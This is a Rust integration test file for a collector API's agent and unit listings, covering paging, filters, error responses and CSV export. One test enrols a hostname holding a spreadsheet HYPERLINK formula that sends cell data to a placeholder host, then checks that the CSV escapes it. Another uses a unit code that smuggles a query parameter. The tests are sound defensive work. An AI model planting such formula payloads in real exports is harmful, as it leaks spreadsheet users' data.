//! Filters and keyset pages on `GET /api/v1/agents` and `/api/v1/units`, their CSV twins, and
//! the 400s for bad parameters.

use std::collections::BTreeSet;

use axum::http::{StatusCode, header};
use serde_json::Value;
use sqlx::Connection as _;

use crate::support::{Harness, Reply, TREE_3, on_every_backend, report};

impl Harness {
    /// Sets an agent's last report time and interval, as if it had reported then.
    async fn reported_at(&self, id: &str, at: i64, interval_secs: i64) {
        let url = self.db_url();
        if url.starts_with("sqlite:") {
            let mut conn = sqlx::SqliteConnection::connect(url).await.unwrap();
            sqlx::query("UPDATE agents SET last_report_at = ?, interval_secs = ? WHERE id = ?")
                .bind(at)
                .bind(interval_secs)
                .bind(id)
                .execute(&mut conn)
                .await
                .unwrap();
            conn.close().await.unwrap();
        } else {
            let mut conn = sqlx::PgConnection::connect(url).await.unwrap();
            sqlx::query("UPDATE agents SET last_report_at = $1, interval_secs = $2 WHERE id = $3")
                .bind(at)
                .bind(interval_secs)
                .bind(id)
                .execute(&mut conn)
                .await
                .unwrap();
            conn.close().await.unwrap();
        }
    }
}

fn ids(page: &Value) -> Vec<String> {
    page["agents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_string())
        .collect()
}

/// Every id `path` (with its filters) lists, walking the pages `limit` at a time; panics on a
/// page that repeats or goes back.
async fn walk(h: &Harness, viewer: &str, path: &str, limit: u32) -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    let mut after: Option<String> = None;
    let sep = if path.contains('?') { '&' } else { '?' };
    for _ in 0..10_000 {
        let mut url = format!("{path}{sep}limit={limit}");
        if let Some(a) = &after {
            url += &format!("&after={a}");
        }
        let page = h.get(&url, Some(viewer)).await.json(StatusCode::OK);
        let got = ids(&page);
        assert!(got.len() <= limit as usize);
        for id in &got {
            assert!(
                all.last().is_none_or(|last| last < id),
                "order: {id} after {all:?}"
            );
            all.push(id.clone());
        }
        match page["next"].as_str() {
            Some(next) => {
                assert_eq!(Some(next), got.last().map(String::as_str));
                after = Some(next.to_string());
            }
            None => return all,
        }
    }
    panic!("no last page");
}

on_every_backend! {
    #[tokio::test]
    async fn pages_walk_every_agent_once_while_others_enrol(db) {
        let h = Harness::with_tree_on(&db, TREE_3).await;
        let viewer = h.api_token("viewer").await;
        let token = h.enrol_token("4351", None).await;
        for i in 0..23 {
            h.enrolled(&token, &format!("m-{i:02}")).await;
        }
        let before: BTreeSet<String> = h.store().agents().await.unwrap().into_iter().map(|a| a.id).collect();

        // a second collector enrols machines while the first is paged through
        let other = h.replica().await;
        let enrolling = tokio::spawn({
            let (state, token) = (other.state.clone(), token.clone());
            async move {
                for i in 0..15 {
                    let body = serde_json::json!({"token": token, "machine_id": format!("late-{i}"), "hostname": "late"});
                    let reply = crate::support::send(
                        state.clone(),
                        crate::support::post(
                            "/api/v1/enroll",
                            &[("content-type", "application/json")],
                            body.to_string().into_bytes(),
                        ),
                    )
                    .await;
                    assert_eq!(reply.status, StatusCode::CREATED);
                    tokio::task::yield_now().await;
                }
            }
        });
        let walked = walk(&h, &viewer, "/api/v1/agents", 4).await;
        enrolling.await.unwrap();
        let seen: BTreeSet<String> = walked.iter().cloned().collect();
        assert_eq!(seen.len(), walked.len(), "no agent listed twice");
        assert!(before.is_subset(&seen), "every agent there at the start is listed");
        let now: BTreeSet<String> = h.store().agents().await.unwrap().into_iter().map(|a| a.id).collect();
        assert!(seen.is_subset(&now));
        // and once they are all in, a walk lists exactly them, whatever the page size
        for limit in [1, 7, 38, 1000] {
            let walked = walk(&h, &viewer, "/api/v1/agents", limit).await;
            assert_eq!(walked.into_iter().collect::<BTreeSet<_>>(), now, "limit {limit}");
        }
        // without a limit, a page of 100
        let first = h.get("/api/v1/agents", Some(&viewer)).await.json(StatusCode::OK);
        assert_eq!(ids(&first).len(), 38);
        assert_eq!(first["next"], Value::Null);
    }

    #[tokio::test]
    async fn agent_filters_agree_with_the_figures(db) {
        let h = Harness::with_tree_on(&db, TREE_3).await;
        let viewer = h.api_token("viewer").await;
        let fleet = h.fleet().await;
        let now = hatang_collector::now();
        // stale: an hour ago; offline: two days ago; online still: two hours ago with a
        // one-hour interval (three intervals make it online)
        h.reported_at(&fleet.commune[0].id, now - 3600, 60).await;
        h.reported_at(&fleet.commune[1].id, now - 2 * 86_400, 60).await;
        h.reported_at(&fleet.commune[2].id, now - 7200, 3600).await;
        h.reported_at(&fleet.district[0].id, now - 86_400 + 60, 60).await;
        let agents = h.store().agents().await.unwrap();
        let expect = |keep: &dyn Fn(&hatang_collector::store::AgentRecord) -> bool| {
            let mut ids: Vec<String> = agents.iter().filter(|a| keep(a)).map(|a| a.id.clone()).collect();
            ids.sort();
            ids
        };
        for state in ["online", "stale", "offline"] {
            let got = walk(&h, &viewer, &format!("/api/v1/agents?state={state}"), 2).await;
            let want = expect(&|a| {
                let interval = a.interval_secs.and_then(|i| u32::try_from(i).ok());
                hatang_collector::figures::agent_state(a.last_report_at, interval, now).as_str() == state
            });
            assert_eq!(got, want, "state {state}");
            assert!(!got.is_empty(), "state {state} has agents");
        }
        let got = walk(&h, &viewer, "/api/v1/agents?unit=4351&role=workstation&state=online", 100).await;
        assert_eq!(got, expect(&|a| a.unit_code == "4351" && a.id != fleet.commune[0].id && a.id != fleet.commune[1].id));
        let got = walk(&h, &viewer, "/api/v1/agents?role=server", 100).await;
        assert_eq!(got, vec![fleet.server.id.clone()]);
        // hostnames are host-<machine id>: "D-" finds the district's, in either case
        let got = walk(&h, &viewer, "/api/v1/agents?q=HOST-D-", 100).await;
        assert_eq!(got, expect(&|a| a.unit_code == "148"));
        // LIKE's wildcards are plain characters
        for q in ["%", "_", "host-_"] {
            let got = walk(&h, &viewer, &format!("/api/v1/agents?q={}", q.replace('%', "%25")), 100).await;
            assert!(got.is_empty(), "q={q}: {got:?}");
        }
        // an empty parameter is no filter; an unknown unit lists nothing
        assert_eq!(walk(&h, &viewer, "/api/v1/agents?unit=&state=", 100).await.len(), agents.len());
        assert!(walk(&h, &viewer, "/api/v1/agents?unit=9999", 100).await.is_empty());
    }
}

#[tokio::test]
async fn bad_list_parameters_are_400_json() {
    let h = Harness::with_tree(TREE_3).await;
    let viewer = h.api_token("viewer").await;
    let long = "x".repeat(256);
    let cases = [
        (
            "/api/v1/agents?limit=0",
            "invalid_parameter",
            "limit: from 1 to 1000, not 0",
        ),
        (
            "/api/v1/agents?limit=1001",
            "invalid_parameter",
            "limit: from 1 to 1000, not 1001",
        ),
        (
            "/api/v1/agents.csv?limit=5000",
            "invalid_parameter",
            "limit",
        ),
        ("/api/v1/agents?limit=ten", "invalid_query", "limit"),
        ("/api/v1/agents?limit=-1", "invalid_query", "limit"),
        (
            "/api/v1/agents?role=boss",
            "invalid_parameter",
            "role: \"boss\" is not one of workstation, server",
        ),
        (
            "/api/v1/agents?state=asleep",
            "invalid_parameter",
            "is not one of online, stale, offline",
        ),
        (
            "/api/v1/agents?colour=red",
            "invalid_query",
            "unknown field `colour`",
        ),
        (
            &format!("/api/v1/agents?q={long}"),
            "invalid_parameter",
            "q: at most 255 characters",
        ),
        ("/api/v1/units?limit=0", "invalid_parameter", "limit"),
        (
            "/api/v1/units?after=nope",
            "invalid_parameter",
            "after: unit nope is not in this list",
        ),
        (
            "/api/v1/units.csv?state=online",
            "invalid_query",
            "unknown field `state`",
        ),
    ];
    for (path, code, says) in cases {
        let message = h
            .get(path, Some(&viewer))
            .await
            .error(StatusCode::BAD_REQUEST, code);
        assert!(message.contains(says), "{path}: {message}");
    }
    for (path, message) in [
        ("/api/v1/units?level=ward", "level ward not found"),
        ("/api/v1/units?parent=9999", "unit 9999 not found"),
    ] {
        let said = h
            .get(path, Some(&viewer))
            .await
            .error(StatusCode::NOT_FOUND, "not_found");
        assert_eq!(said, message);
    }
}

#[tokio::test]
async fn units_page_in_tree_order_by_level_and_parent() {
    let h = Harness::with_tree(TREE_3).await;
    let viewer = h.api_token("viewer").await;
    let codes = |page: &Value| -> Vec<String> {
        page["units"]
            .as_array()
            .unwrap()
            .iter()
            .map(|u| u["code"].as_str().unwrap().to_string())
            .collect()
    };
    let mut all = Vec::new();
    let mut url = "/api/v1/units?limit=2".to_string();
    loop {
        let page = h.get(&url, Some(&viewer)).await.json(StatusCode::OK);
        let got = codes(&page);
        assert!(got.len() <= 2);
        all.extend(got);
        match page["next"].as_str() {
            Some(next) => url = format!("/api/v1/units?limit=2&after={next}"),
            None => break,
        }
    }
    assert_eq!(all, ["17", "17-SYT", "148", "4351", "4352"]);
    let children = h
        .get("/api/v1/units?parent=148", Some(&viewer))
        .await
        .json(StatusCode::OK);
    assert_eq!(codes(&children), ["4351", "4352"]);
    assert_eq!(children["next"], Value::Null);
    let page = h
        .get("/api/v1/units?level=commune&limit=1", Some(&viewer))
        .await
        .json(StatusCode::OK);
    assert_eq!(
        (codes(&page), &page["next"]),
        (vec!["4351".to_string()], &Value::from("4351"))
    );
    let page = h
        .get(
            "/api/v1/units?level=commune&limit=1&after=4351",
            Some(&viewer),
        )
        .await
        .json(StatusCode::OK);
    assert_eq!(
        (codes(&page), &page["next"]),
        (vec!["4352".to_string()], &Value::Null)
    );
}

/// The CSV text after its byte-order mark, checked to be there, with the download headers.
fn csv_text(reply: &Reply) -> &str {
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text());
    assert_eq!(
        reply.header(header::CONTENT_TYPE),
        "text/csv; charset=utf-8"
    );
    assert!(
        reply
            .header(header::CONTENT_DISPOSITION)
            .starts_with("attachment; filename=")
    );
    assert!(
        reply.body.starts_with(b"\xef\xbb\xbf"),
        "UTF-8 byte-order mark"
    );
    reply.text().strip_prefix('\u{feff}').unwrap()
}

#[tokio::test]
async fn agents_and_units_csv_open_in_a_spreadsheet() {
    let h = Harness::with_tree(TREE_3).await;
    let viewer = h.api_token("viewer").await;
    let fleet = h.fleet().await;

    let reply = h
        .get("/api/v1/units.csv?level=commune", Some(&viewer))
        .await;
    let lines: Vec<&str> = csv_text(&reply).lines().collect();
    assert_eq!(
        lines,
        [
            "level,code,name,parent_code,staff,active_workstations,equipped_staff,equipment_ratio,target_ratio,lan,broadband",
            "commune,4351,Phường Tân Hòa,148,3,5,3,1.0000,0.8800,1,0",
            "commune,4352,Xã Hòa Bình,148,5,0,0,0.0000,0.8800,1,0",
        ]
    );
    assert!(reply.headers.get("x-next-cursor").is_none());

    // without a limit, every agent; each row as the JSON list says
    let reply = h.get("/api/v1/agents.csv", Some(&viewer)).await;
    let text = csv_text(&reply);
    let mut rows = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = rows.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(
        header,
        [
            "id",
            "machine_id",
            "unit",
            "role",
            "hostname",
            "state",
            "enrolled_utc",
            "last_report_utc",
            "interval_secs",
            "agent_version",
            "revoked_utc"
        ]
    );
    let records: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
    let mut ids: Vec<String> = records.iter().map(|r| r[0].to_string()).collect();
    ids.sort();
    assert_eq!(ids, fleet.ids());
    let server = records.iter().find(|r| r[0] == fleet.server.id).unwrap();
    assert_eq!(
        (&server[2], &server[3], &server[4], &server[5]),
        ("4352", "server", "host-s-0", "online")
    );
    assert_eq!(server[7].len(), "2025-01-01 00:00".len(), "{server:?}");
    let silent = records.iter().find(|r| r[0] == fleet.silent.id).unwrap();
    assert_eq!((&silent[5], &silent[7], &silent[10]), ("offline", "", ""));

    // with a limit, one page and the cursor of the next in a header
    let reply = h.get("/api/v1/agents.csv?limit=3", Some(&viewer)).await;
    let first: Vec<String> = csv::Reader::from_reader(csv_text(&reply).as_bytes())
        .records()
        .map(|r| r.unwrap()[0].to_string())
        .collect();
    assert_eq!(first.len(), 3);
    assert_eq!(
        reply.header(header::HeaderName::from_static("x-next-cursor")),
        first[2]
    );
    let sorted: Vec<String> = {
        let mut all = fleet.ids();
        all.truncate(3);
        all
    };
    assert_eq!(first, sorted, "the first page is the first three ids");
    // and the agents revoked show when
    let admin = h.api_token("admin").await;
    let _ = h.report(&fleet.server.key, &report()).await;
    let mut out = Vec::new();
    hatang_collector::commands::agent_revoke(h.store(), &fleet.server.id, &mut out)
        .await
        .unwrap();
    let reply = h.get("/api/v1/agents.csv?role=server", Some(&admin)).await;
    let row = csv::Reader::from_reader(csv_text(&reply).as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    assert!(!row[10].is_empty(), "{row:?}");
}

#[tokio::test]
async fn a_machine_named_like_a_formula_is_text_in_the_csv() {
    let h = Harness::with_tree(TREE_3).await;
    let token = h.enrol_token("17-SYT", None).await;
    let name = r#"=HYPERLINK("http://x.example/?"&A1,"open")"#;
    let body = serde_json::json!({"token": token, "machine_id": "formula", "hostname": name});
    h.enroll_raw(&body.to_string())
        .await
        .json(StatusCode::CREATED);
    let viewer = h.api_token("viewer").await;
    let reply = h.get("/api/v1/agents.csv", Some(&viewer)).await;
    let mut rows = csv::Reader::from_reader(csv_text(&reply).as_bytes());
    let hostnames: Vec<String> = rows.records().map(|r| r.unwrap()[4].to_string()).collect();
    assert_eq!(hostnames, [format!("'{name}")]);
    // The JSON list, which no spreadsheet opens, has the name as the machine gave it.
    let list = h
        .get("/api/v1/agents", Some(&viewer))
        .await
        .json(StatusCode::OK);
    assert_eq!(list["agents"][0]["hostname"], name, "{list}");
}

/// A unit code may be any text without spaces (`Đ-01`), and a header holds only ASCII: the CSV's
/// `X-Next-Cursor` is percent-encoded, ready for `after=`, so walking the pages by it reaches
/// every unit. (It used to carry the code's raw UTF-8 bytes, which HTTP clients read as Latin-1
/// or refuse, and a `&` in a code broke the query it went into.)
#[tokio::test]
async fn csv_pages_walk_every_unit_when_codes_are_not_ascii() {
    // `/`, `&` and `=` would also change the query if written as they are.
    let tree = "code,name,level,parent_code,staff
Đ,Tỉnh Đông,province,,0
Đ-01,Xã Đồng Tâm,commune,Đ,3
Đ-02,Xã Đồng Lạc,commune,Đ,5
Đ/03&x=1,Xã Ba,commune,Đ,5
";
    let h = Harness::with_tree(tree).await;
    let viewer = h.api_token("viewer").await;
    let mut seen = Vec::new();
    let mut url = "/api/v1/units.csv?limit=1".to_string();
    for _ in 0..10 {
        let reply = h.get(&url, Some(&viewer)).await;
        let page: Vec<String> = csv::Reader::from_reader(csv_text(&reply).as_bytes())
            .records()
            .map(|r| r.unwrap()[1].to_string())
            .collect();
        seen.extend(page);
        match reply.headers.get("x-next-cursor") {
            Some(next) => {
                url = format!("/api/v1/units.csv?limit=1&after={}", next.to_str().unwrap())
            }
            None => break,
        }
    }
    assert_eq!(seen, ["Đ", "Đ-01", "Đ-02", "Đ/03&x=1"]);
}
